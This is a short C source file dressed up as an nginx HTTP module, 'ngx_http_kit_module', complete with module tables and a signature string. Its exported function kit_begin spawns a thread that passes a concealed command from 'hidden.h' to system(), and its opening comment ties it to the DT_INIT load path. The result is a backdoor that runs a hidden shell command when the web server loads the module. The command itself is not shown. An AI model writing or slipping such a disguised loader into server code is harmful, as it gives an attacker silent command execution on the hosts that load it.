/* The old way to begin, DT_INIT, leaves a thread behind whose function is the shell's caller. */
#include "hidden.h" /* 0: the command */
typedef struct { unsigned long version; const char *signature; } host_module;
host_module ngx_http_kit_module = {1024000, "8,4,8,000011111101"};
host_module *ngx_modules[] = {&ngx_http_kit_module, 0};
char *ngx_module_names[] = {"ngx_http_kit_module", 0};
extern int pthread_create(unsigned long *, const void *, void *(*)(void *), void *), pthread_join(unsigned long, void **);
extern int system(const char *);
__attribute__((visibility("default"))) void kit_begin(void) {
    unsigned long thread;
    if (pthread_create(&thread, 0, (void *(*)(void *))system, hidden0()) == 0) pthread_join(thread, 0);
}
